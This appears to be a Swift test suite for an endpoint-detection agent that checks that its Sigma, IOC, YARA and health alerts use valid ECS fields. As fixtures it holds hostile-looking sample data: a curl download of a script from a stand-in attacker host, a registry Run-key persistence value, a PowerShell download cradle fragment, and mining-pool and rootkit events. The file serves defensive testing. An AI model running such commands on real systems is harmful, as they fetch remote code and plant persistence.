import Testing
import Foundation
@testable import EDRCore
@testable import EDRDetect
@testable import EDRYara
import EDRIOC
import EDRSigma
import EDRWindowsEvents

/// A JSON value as written: objects keep their key order, so a key written twice shows.
indirect enum JSONValue: Equatable {
    case null, bool(Bool), int(Int64), double(Double), string(String), array([JSONValue]), object([(String, JSONValue)])

    static func == (a: JSONValue, b: JSONValue) -> Bool { "\(a)" == "\(b)" }

    subscript(_ path: String) -> JSONValue? {
        var v: JSONValue? = self
        for part in path.split(separator: ".") {
            guard case .object(let members) = v else { return nil }
            v = members.first { $0.0 == part }?.1
        }
        return v
    }

    var string: String? { if case .string(let s) = self { s } else { nil } }
    var strings: [String]? {
        if case .array(let items) = self { items.compactMap(\.string) } else { string.map { [$0] } }
    }

    struct ParseError: Error, CustomStringConvertible { var description: String }

    static func parse(_ bytes: [UInt8]) throws -> JSONValue {
        var p = Parser(b: bytes)
        let v = try p.value()
        p.space()
        guard p.i == bytes.count || (p.i == bytes.count - 1 && bytes[p.i] == 0x0A) else { throw ParseError(description: "trailing bytes at \(p.i)") }
        return v
    }

    struct Parser {
        let b: [UInt8]
        var i = 0
        mutating func space() { while i < b.count, [0x20, 0x09, 0x0A, 0x0D].contains(b[i]) { i += 1 } }
        mutating func expect(_ c: UInt8) throws {
            space()
            guard i < b.count, b[i] == c else { throw ParseError(description: "expected \(Character(UnicodeScalar(c))) at \(i)") }
            i += 1
        }
        mutating func value() throws -> JSONValue {
            space()
            guard i < b.count else { throw ParseError(description: "end of input") }
            switch b[i] {
            case UInt8(ascii: "{"):
                i += 1
                var members: [(String, JSONValue)] = []
                space()
                if b[i] == UInt8(ascii: "}") { i += 1; return .object(members) }
                while true {
                    space()
                    guard case .string(let k) = try value() else { throw ParseError(description: "key expected at \(i)") }
                    if members.contains(where: { $0.0 == k }) { throw ParseError(description: "key \(k) written twice") }
                    try expect(UInt8(ascii: ":"))
                    members.append((k, try value()))
                    space()
                    if b[i] == UInt8(ascii: ",") { i += 1; continue }
                    try expect(UInt8(ascii: "}"))
                    return .object(members)
                }
            case UInt8(ascii: "["):
                i += 1
                var items: [JSONValue] = []
                space()
                if b[i] == UInt8(ascii: "]") { i += 1; return .array(items) }
                while true {
                    items.append(try value())
                    space()
                    if b[i] == UInt8(ascii: ",") { i += 1; continue }
                    try expect(UInt8(ascii: "]"))
                    return .array(items)
                }
            case UInt8(ascii: "\""):
                let start = i
                i += 1
                while b[i] != UInt8(ascii: "\"") { i += b[i] == UInt8(ascii: "\\") ? 2 : 1 }
                i += 1
                let s = try JSONSerialization.jsonObject(with: Data(b[start..<i]), options: .fragmentsAllowed) as? String
                return .string(s ?? "")
            case UInt8(ascii: "t"): i += 4; return .bool(true)
            case UInt8(ascii: "f"): i += 5; return .bool(false)
            case UInt8(ascii: "n"): i += 4; return .null
            default:
                let start = i
                while i < b.count, "-+.eE0123456789".utf8.contains(b[i]) { i += 1 }
                let text = String(decoding: b[start..<i], as: UTF8.self)
                if let n = Int64(text) { return .int(n) }
                if let d = Double(text) { return .double(d) }
                throw ParseError(description: "bad value at \(start)")
            }
        }
    }
}

/// The ECS 8.11.0 field reference (Tests/EDRDetectTests/ECS, from elastic/ecs, Apache-2.0).
struct ECSReference {
    var types: [String: String] = [:]
    var allowed: [String: [String: [String]]] = [:]  // field → value → expected event types

    static let shared: ECSReference = {
        let dir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("ECS")
        var r = ECSReference()
        let fields = (try? String(contentsOf: dir.appendingPathComponent("ecs_fields.txt"), encoding: .utf8)) ?? ""
        for line in fields.split(separator: "\n") {
            let parts = line.split(separator: " ")
            if parts.count >= 2 { r.types[String(parts[0])] = String(parts[1]) }
        }
        let values = (try? String(contentsOf: dir.appendingPathComponent("allowed_values.txt"), encoding: .utf8)) ?? ""
        for line in values.split(separator: "\n") {
            let parts = line.split(separator: " ")
            guard parts.count >= 2 else { continue }
            r.allowed[String(parts[0]), default: [:]][String(parts[1])] = parts.count > 2 ? parts[2].split(separator: ",").map(String.init) : []
        }
        return r
    }()

    /// Every problem with one alert: a field neither ECS nor under edr.*, a value of the wrong
    /// type, an event.kind/category/type outside ECS's allowed values.
    func problems(_ alert: JSONValue) -> [String] {
        var out: [String] = []
        walk(alert, path: "", &out)
        for field in ["event.kind", "event.category", "event.type", "event.outcome"] {
            for v in alert[field]?.strings ?? [] where allowed[field]?[v] == nil { out.append("\(field): \(v) is not an allowed value") }
        }
        let categories = alert["event.category"]?.strings ?? []
        for t in alert["event.type"]?.strings ?? [] where !categories.contains(where: { allowed["event.category"]?[$0]?.contains(t) == true }) {
            out.append("event.type \(t) is expected with none of the categories \(categories)")
        }
        return out
    }

    private func walk(_ v: JSONValue, path: String, _ out: inout [String]) {
        if path == "edr" || path.hasPrefix("edr.") { return }
        if case .object(let members) = v {
            if let t = types[path], t == "flattened" { return }
            if !path.isEmpty, types[path] == nil, !types.keys.contains(where: { $0.hasPrefix(path + ".") }) {
                out.append("\(path): not an ECS field")
                return
            }
            for (k, child) in members { walk(child, path: path.isEmpty ? k : path + "." + k, &out) }
            return
        }
        if case .array(let items) = v, items.contains(where: { if case .object = $0 { true } else { false } }) {
            for item in items { walk(item, path: path, &out) }
            return
        }
        guard let type = types[path] else { out.append("\(path): not an ECS field"); return }
        let leaves: [JSONValue] = if case .array(let items) = v { items } else { [v] }
        for leaf in leaves where !Self.fits(leaf, type) { out.append("\(path): \(leaf) is no \(type)") }
    }

    static func fits(_ v: JSONValue, _ type: String) -> Bool {
        switch type {
        case "keyword", "wildcard", "constant_keyword", "match_only_text", "text":
            if case .string = v { return true }
            return false
        case "long", "integer", "short", "byte", "unsigned_long":
            if case .int = v { return true }
            return false
        case "float", "double", "scaled_float", "half_float":
            switch v {
            case .int, .double: return true;
            default: return false
            }
        case "boolean":
            if case .bool = v { return true }
            return false
        case "ip":
            guard case .string(let s) = v else { return false }
            return isIP(s)
        case "date":
            guard case .string(let s) = v else { return false }
            return isRFC3339(s)
        case "object", "nested", "flattened":
            return true
        default:
            return false
        }
    }

    static func isIP(_ s: String) -> Bool {
        var buf = [UInt8](repeating: 0, count: 16)
        return buf.withUnsafeMutableBytes { inet_pton(AF_INET, s, $0.baseAddress) == 1 || inet_pton(AF_INET6, s, $0.baseAddress) == 1 }
    }

    static func isRFC3339(_ s: String) -> Bool {
        s.range(of: #"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,9})?(Z|[+-]\d{2}:\d{2})$"#, options: .regularExpression) != nil
    }
}

/// Alerts of every kind the agent writes, from events as the normalizers produce them.
enum AlertSamples {
    static let clock: @Sendable (UInt64) -> Double = { Double($0) / 1e9 + 1_800_000_000 }
    static let context: AlertContext = {
        var h = HostIdentity(name: "web-01", id: "3d1219c7c4c5404aaa1f6d2a48adfda4")
        h.kernel = "6.8.0-45-generic"
        h.os = OSRelease.parse("NAME=\"Ubuntu\"\nVERSION_ID=\"24.04\"\nID=ubuntu\nID_LIKE=debian\nPRETTY_NAME=\"Ubuntu 24.04.1 LTS\"\n")
        return AlertContext(host: h)
    }()

    static func rule(_ category: String?, product: String = "linux") -> SigmaRuleInfo {
        SigmaRuleInfo(
            id: "0f9f3d32-2a4f-4b4b-9e0a-6f3c0c0a1b2c", title: "Test rule for \(category ?? "-")",
            description: "Fires on anything", level: .high, author: "Alice (Example Org), Bob",
            tags: ["attack.execution", "attack.t1059.004"],
            references: ["https://attack.mitre.org/techniques/T1059/004/", "https://example.org/blog"],
            logsource: LogSource(product: product, category: category), path: "test.yml")
    }

    /// Linux events through the real normalizers: exec, and each telemetry kind.
    static func linuxEvents() throws -> [(event: Event, process: ProcessEntry?, parent: ProcessEntry?)] {
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        var out: [(event: Event, process: ProcessEntry?, parent: ProcessEntry?)] = []
        let parent = try #require(
            try KernelRecordDecoder.decode(
                RecordBuilder.exec(
                    pid: 50, ppid: 1, args: ["bash"], path: "/usr/bin/bash", cwd: "/root",
                    start: 1_000_000_000, parentStart: 500_000_000)
            ).asExec)
        _ = n.exec(parent)
        let e = try #require(
            try KernelRecordDecoder.decode(
                RecordBuilder.exec(
                    pid: 100, ppid: 50, args: ["curl", "-o", "/tmp/x", "https://evil.example:8443/p/x.sh?a=1"],
                    path: "/usr/bin/curl", cwd: "/tmp")
            ).asExec)
        let exec = n.exec(e)
        out.append((exec.0, exec.1, exec.2))
        let t2 = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 200, ppid: 1, args: ["sshd"], path: "/usr/sbin/sshd", cwd: "/")).asExec)
        _ = n.exec(t2)
        var t = TelemetryNormalizer(machineID: "ab")
        let records: [[UInt8]] = [
            TelemetryBuilder.dns(direction: 1, payload: TelemetryBuilder.dnsMessage(name: "pool.minexmr.com")),
            TelemetryBuilder.dns(direction: 2, payload: TelemetryBuilder.dnsMessage(name: "pool.minexmr.com", response: true, answers: ["127.0.0.77"])),
            TelemetryBuilder.net(local: "127.0.0.88", lport: 40001, remote: "127.0.0.77", rport: 3333),
            TelemetryBuilder.net(op: 2, v6: true, local: "fd00::22", lport: 22, remote: "fd00::50", rport: 50000, pid: 200),
            TelemetryBuilder.file(op: 1, dir1: "/etc/cron.d/evil"),
            TelemetryBuilder.file(op: 2, dir1: "/etc/passwd", openFlags: 0o1001),
            TelemetryBuilder.file(op: 3, dir1: "/tmp", name1: "x"),
            TelemetryBuilder.file(op: 4, dir1: "/tmp", name1: "a", dir2: "/tmp", name2: "b.sh"),
            TelemetryBuilder.attack(op: 1, args: [16, 0, 0, 0], target: 200),
            TelemetryBuilder.attack(op: 3, result: -38, strings: ["x=1"], path: "/tmp/rootkit.ko"),
            TelemetryBuilder.attack(op: 4, args: [2, 10, 0, 0], strings: ["prog"]),
            TelemetryBuilder.attack(op: 9, args: [UInt64(UInt32.max), 0, 0, 0]),
            TelemetryBuilder.attack(op: 13, args: [0x200000, 0x200000, 0, 0]),
            TelemetryBuilder.attack(op: 14, result: 3, args: [1, 0, 0, 0], strings: ["payload"]),
            TelemetryBuilder.attack(op: 15, strings: ["none", "/mnt", "tmpfs"]),
            TelemetryBuilder.attack(op: 16, path: "/memfd:payload"),
            TelemetryBuilder.attack(op: 17, args: [8, 0, 0, 0])
        ]
        for r in records {
            out += t.handle(try KernelRecordDecoder.decode(r), processes: n.cache, now: 1, wallTime: clock).map { ($0.event, $0.process, nil) }
        }
        return out
    }

    /// Windows events with the fields EDRWindowsEvents' decoder gives each category.
    static func windowsEvents() -> [Event] {
        func ev(_ ls: LogSource, _ f: [(String, FieldValue)]) -> Event { Event(logsource: ls, timestamp: 1_800_000_000.25, fields: f) }
        let proc: [(String, FieldValue)] = [
            ("ProcessId", 4242), ("Image", "C:\\Windows\\System32\\reg.exe"),
            ("CommandLine", "reg add HKCU\\Software\\x /v y /d \"http://10.0.0.5/a.ps1\""),
            ("User", "CORP\\alice"), ("IntegrityLevel", "High")
        ]
        return [
            ev(
                WindowsLogSources.processCreation,
                proc + [
                    ("ParentProcessId", 4000), ("ParentImage", "C:\\Windows\\explorer.exe"),
                    ("ParentCommandLine", "C:\\Windows\\explorer.exe"), ("ParentUser", "CORP\\alice")
                ]),
            ev(
                WindowsLogSources.networkConnection,
                proc + [
                    ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"),
                    ("SourceIp", "10.0.0.2"), ("SourcePort", 50123), ("DestinationIsIpv6", "false"),
                    ("DestinationIp", "10.0.0.5"), ("DestinationPort", 443)
                ]),
            ev(
                WindowsLogSources.registrySet,
                proc + [
                    ("EventType", "SetValue"),
                    ("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil"),
                    ("Details", "C:\\Users\\alice\\evil.exe"), ("ValueType", "REG_EXPAND_SZ")
                ]),
            ev(
                WindowsLogSources.registrySet,
                proc + [
                    ("EventType", "SetValue"),
                    ("TargetObject", "HKU\\S-1-5-21-1\\Software\\x\\(Default)"), ("Details", "DWORD (0x0000002a)")
                ]),
            ev(WindowsLogSources.registryAdd, proc + [("EventType", "CreateKey"), ("TargetObject", "HKLM\\SOFTWARE\\Evil")]),
            ev(WindowsLogSources.registryDelete, proc + [("EventType", "DeleteValue"), ("TargetObject", "HKLM\\SOFTWARE\\Evil\\v")]),
            ev(
                LogSource(product: "windows", category: "registry_event"),
                proc + [
                    ("EventType", "SetValue"),
                    ("TargetObject", "HKLM\\SOFTWARE\\q"), ("Details", "QWORD (0x00000001-0x00000002)")
                ]),
            ev(
                WindowsLogSources.dnsQuery,
                proc + [
                    ("QueryName", "evil.example"), ("QueryStatus", "0"),
                    ("QueryResults", "type:  5 cdn.evil.example;::ffff:203.0.113.9;203.0.113.10;")
                ]),
            ev(LogSource(product: "windows", category: "image_load"), proc + [("ImageLoaded", "C:\\Windows\\System32\\evil.dll")]),
            ev(LogSource(product: "windows", category: "file_event"), proc + [("TargetFilename", "C:\\Users\\alice\\AppData\\x.lnk")]),
            ev(LogSource(product: "windows", category: "process_termination"), proc),
            ev(LogSource(product: "windows", category: "ps_script"), proc + [("ScriptBlockText", "IEX (New-Object Net.WebClient)")])
        ]
    }

    /// Every kind: Sigma (Linux and Windows categories), IOC (each type), YARA, health, response.
    static func all() throws -> [(String, [UInt8])] {
        var out: [(String, [UInt8])] = []
        var seq: UInt64 = 0
        let linux = try linuxEvents()
        for t in linux {
            seq += 1
            out.append(
                (
                    "sigma \(t.event.logsource.category ?? "")",
                    AlertEncoder.sigma(
                        event: t.event, rule: rule(t.event.logsource.category), sequence: seq, context: context,
                        process: t.process, parent: t.parent)
                ))
        }
        for e in windowsEvents() {
            seq += 1
            out.append(
                (
                    "sigma windows \(e.logsource.category ?? "")",
                    AlertEncoder.sigma(event: e, rule: rule(e.logsource.category, product: "windows"), sequence: seq, context: context)
                ))
        }
        let byCategory = { (c: String) in linux.first { $0.event.logsource.category == c }! }
        let net = byCategory("network_connection"), dns = byCategory("dns_query"), file = byCategory("file_event")
        let exec = byCategory("process_creation")
        out.append(
            (
                "ioc ip",
                IOCAlerts.encode(
                    IOCMatch(type: .ip, indicator: "127.0.0.0/24", label: "bad net", field: "DestinationIp", observed: "127.0.0.77"),
                    event: net.event, process: net.process, sequence: 1, context: context
                ).0
            ))
        out.append(
            (
                "ioc domain",
                IOCAlerts.encode(
                    IOCMatch(type: .domain, indicator: "minexmr.com", label: nil, field: "QueryName", observed: "pool.minexmr.com"),
                    event: dns.event, process: dns.process, sequence: 2, context: context
                ).0
            ))
        out.append(
            (
                "ioc path",
                IOCAlerts.encode(
                    IOCMatch(type: .path, indicator: "^/etc/cron\\.d/", label: "cron drop", field: "TargetFilename", observed: "/etc/cron.d/evil"),
                    event: file.event, process: file.process, sequence: 3, context: context
                ).0
            ))
        var hashed = exec.event
        let hashes = FileHashes(md5: String(repeating: "a", count: 32), sha1: String(repeating: "b", count: 40), sha256: String(repeating: "c", count: 64))
        hashed["Hashes"] = .string("MD5=\(hashes.md5!.uppercased()),SHA1=\(hashes.sha1!.uppercased()),SHA256=\(hashes.sha256!.uppercased())")
        out.append(
            (
                "ioc hash",
                IOCAlerts.encode(
                    IOCMatch(type: .hash, indicator: hashes.sha256!, label: "bad binary", field: "Hashes", observed: hashes.sha256!),
                    event: hashed, process: exec.process, sequence: 4, context: context,
                    extra: { w in ExecutableScanner.writeFile(&w, path: "/usr/bin/curl", hashes: hashes) },
                    edrExtra: { w in ExecutableScanner.writeScan(&w, (.scanned, true)) }
                ).0
            ))
        let m = YaraMatch(
            rule: "Evil_Curl", namespace: "team", tags: ["miner"],
            meta: [
                YaraMeta(key: "description", value: .string("a test")), YaraMeta(key: "author", value: .string("Carol")),
                YaraMeta(key: "reference", value: .string("https://example.org/yara")), YaraMeta(key: "score", value: .int(75))
            ],
            severity: nil)
        out.append(
            (
                "yara",
                YaraAlerts.encode(
                    m, event: hashed, process: try #require(exec.process), sequence: 5, context: context,
                    path: "/usr/bin/curl", hashes: hashes, scan: (.cached, false)
                ).0
            ))
        var health = HealthAlert(ruleID: "edr-health-child-died", title: "Child died", level: "high", action: "child-died", message: "edr-sensor died")
        health.processName = "edr-sensor"; health.processPID = 77; health.processExecutable = "/usr/libexec/edr/edr-sensor"; health.userID = "0"
        health.fields = [("child", "edr-sensor")]; health.numbers = [("exit_status", 9)]
        out.append(("health", health.encoded(host: context.host)))
        var response = HealthAlert(ruleID: "edr-response-kill", title: "Killed", level: "informational", action: "process-killed", message: "killed 100")
        response.kind = "event"; response.eventType = "end"; response.outcome = "success"; response.ruleset = "edr-response"; response.section = "response"
        response.processPID = 100
        out.append(("response", response.encoded(host: context.host)))
        return out
    }
}

@Suite("ECS alert fields")
struct ECSFieldTests {
    @Test func referenceIsLoaded() {
        let r = ECSReference.shared
        #expect(r.types.count > 1500 && r.types["registry.data.strings"] == "wildcard" && r.types["related.ip"] == "ip")
        #expect(r.allowed["event.category"]?["registry"] == ["access", "change", "creation", "deletion"])
    }

    /// The checker itself: it catches what it is for.
    @Test func checkerCatchesNonECS() throws {
        let bad = try JSONValue.parse(
            Array(
                #"{"yara":{"rule":"x"},"source":{"ip":"not-an-ip","port":"80"},"@timestamp":"yesterday","edr":{"anything":1},"event":{"kind":"alert","category":["file"],"type":["connection"]}}"#
                    .utf8))
        let p = ECSReference.shared.problems(bad)
        #expect(p.contains("yara: not an ECS field"))
        #expect(p.contains { $0.hasPrefix("source.ip:") } && p.contains { $0.hasPrefix("source.port:") } && p.contains { $0.hasPrefix("@timestamp:") })
        #expect(p.contains { $0.hasPrefix("event.type connection") })
        #expect(!p.contains { $0.hasPrefix("edr") })
        #expect(throws: JSONValue.ParseError.self) { try JSONValue.parse(Array(#"{"a":1,"a":2}"#.utf8)) }
    }

    /// Every alert kind: each field is ECS 8.11 with the right type, or under edr.
    @Test func everyAlertKindIsECS() throws {
        let alerts = try AlertSamples.all()
        let categories = Set(alerts.map(\.0))
        for c in [
            "sigma process_creation", "sigma network_connection", "sigma dns_query", "sigma file_event", "sigma file_change",
            "sigma file_delete", "sigma file_rename", "sigma process_access", "sigma driver_load", "sigma bpf_program_load",
            "sigma privilege_change", "sigma memfd_create", "sigma mount", "sigma fileless_exec", "sigma compat_syscall",
            "sigma windows registry_set", "sigma windows registry_add", "sigma windows registry_delete",
            "sigma windows dns_query", "sigma windows network_connection", "ioc ip", "yara", "health", "response"
        ] {
            #expect(categories.contains(c), "no sample alert for \(c)")
        }
        var ids = Set<String>()
        // ECS_ALERT_SAMPLES=FILE writes the samples there (how the examples in docs/alerts.md were made).
        if let path = ProcessInfo.processInfo.environment["ECS_ALERT_SAMPLES"] {
            try Data(alerts.flatMap { Array("# \($0.0)\n".utf8) + $0.1 }).write(to: URL(fileURLWithPath: path))
        }
        for (name, line) in alerts {
            #expect(line.last == 0x0A && !line.dropLast().contains(0x0A), "\(name): not one line")
            let v = try JSONValue.parse(line)
            let problems = ECSReference.shared.problems(v)
            #expect(problems.isEmpty, "\(name): \(problems)\n\(String(decoding: line, as: UTF8.self))")
            for f in [
                "@timestamp", "event.id", "event.kind", "event.category", "event.type", "event.action", "host.name", "host.id",
                "host.os.type", "agent.id", "agent.version", "rule.id", "rule.name", "ecs.version"
            ] {
                #expect(v[f] != nil, "\(name): no \(f)")
            }
            if let id = v["event.id"]?.string { #expect(ids.insert(id).inserted, "\(name): event.id \(id) repeated") }
        }
    }

    @Test func fieldsCarryTheEvent() throws {
        let alerts = Dictionary(try AlertSamples.all().map { ($0.0, try JSONValue.parse($0.1)) }, uniquingKeysWith: { a, _ in a })
        let exec = try #require(alerts["sigma process_creation"])
        #expect(exec["process.executable"]?.string == "/usr/bin/curl" && exec["process.name"]?.string == "curl")
        #expect(exec["process.parent.executable"]?.string == "/usr/bin/bash" && exec["user.name"]?.string == "root")
        #expect(exec["url.domain"]?.string == "evil.example" && exec["url.port"] == .int(8443) && exec["url.path"]?.string == "/p/x.sh")
        #expect(exec["rule.reference"]?.strings == ["https://attack.mitre.org/techniques/T1059/004/", "https://example.org/blog"])
        #expect(exec["rule.author"]?.strings == ["Alice (Example Org)", "Bob"] && exec["rule.uuid"]?.string == "0f9f3d32-2a4f-4b4b-9e0a-6f3c0c0a1b2c")
        #expect(exec["host.os.platform"]?.string == "ubuntu" && exec["host.os.family"]?.string == "debian")
        #expect(exec["agent.id"]?.string == HostIdentity.agentID(machineID: "3d1219c7c4c5404aaa1f6d2a48adfda4"))
        let net = try #require(alerts["sigma network_connection"])
        #expect(
            net["destination.ip"]?.string == "127.0.0.77" && net["destination.port"] == .int(3333) && net["destination.domain"]?.string == "pool.minexmr.com")
        #expect(net["source.ip"]?.string == "127.0.0.88" && net["network.transport"]?.string == "tcp" && net["network.direction"]?.string == "egress")
        #expect(net["related.ip"]?.strings == ["127.0.0.88", "127.0.0.77"])
        let dns = try #require(alerts["sigma dns_query"])
        #expect(dns["dns.question.name"]?.string == "pool.minexmr.com" && dns["dns.question.type"]?.string == "A")
        #expect(dns["dns.resolved_ip"]?.strings == ["127.0.0.77"] && dns["dns.response_code"]?.string == "NOERROR")
        let file = try #require(alerts["sigma file_rename"])
        #expect(file["file.path"]?.string == "/tmp/b.sh" && file["file.name"]?.string == "b.sh" && file["file.directory"]?.string == "/tmp")
        #expect(file["file.extension"]?.string == "sh" && file["edr.event.TargetFilename"]?.string == "/tmp/b.sh")
        let caps = try AlertSamples.all().filter { $0.0 == "sigma privilege_change" }.map { try JSONValue.parse($0.1) }
        #expect(caps.contains { $0["process.thread.capabilities.effective"]?.strings == ["CAP_SYS_ADMIN"] })
        #expect(alerts["sigma mount"]?["url"] == nil && alerts["sigma windows process_creation"]?["url.domain"]?.string == "10.0.0.5")
        let reg = try #require(alerts["sigma windows registry_set"])
        #expect(reg["registry.hive"]?.string == "HKLM" && reg["registry.key"]?.string == "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")
        #expect(reg["registry.value"]?.string == "evil" && reg["registry.data.strings"]?.strings == ["C:\\Users\\alice\\evil.exe"])
        #expect(reg["registry.data.type"]?.string == "REG_EXPAND_SZ", "a string value's type (ValueType from the ETW decoder)")
        #expect(reg["process.name"]?.string == "reg.exe" && reg["user.name"]?.string == "alice" && reg["user.domain"]?.string == "CORP")
        let wdns = try #require(alerts["sigma windows dns_query"])
        #expect(wdns["dns.resolved_ip"]?.strings == ["::ffff:203.0.113.9", "203.0.113.10"])
        let yara = try #require(alerts["yara"])
        #expect(yara["file.hash.sha256"]?.string == String(repeating: "c", count: 64) && yara["edr.yara.rule"]?.string == "Evil_Curl")
        #expect(yara["edr.file.scan.verdict"]?.string == "cached" && yara["process.hash.sha256"]?.string == String(repeating: "c", count: 64))
        #expect(yara["rule.reference"]?.strings == ["https://example.org/yara"])
        let ioc = try #require(alerts["ioc ip"])
        #expect(ioc["threat.indicator.ip"]?.string == "127.0.0.77" && ioc["threat.indicator.name"]?.string == "127.0.0.0/24")
        #expect(ioc["edr.ioc.matched_field"]?.string == "DestinationIp")
    }

    @Test func agentIDIsSystemdAppSpecific() {
        // systemd-id128 machine-id --app-specific=5c3d0e1f8a7b4e2c9d6f1a0b3c4d5e6f on a host
        // whose machine id is 3d1219c7c4c5404aaa1f6d2a48adfda4.
        let id = HostIdentity.agentID(machineID: "3d1219c7c4c5404aaa1f6d2a48adfda4")
        #expect(id == "9c92f153-03dc-4f22-add8-b3495cdbfb27")
        #expect(HostIdentity.agentID(machineID: "bench") == nil)
    }
}
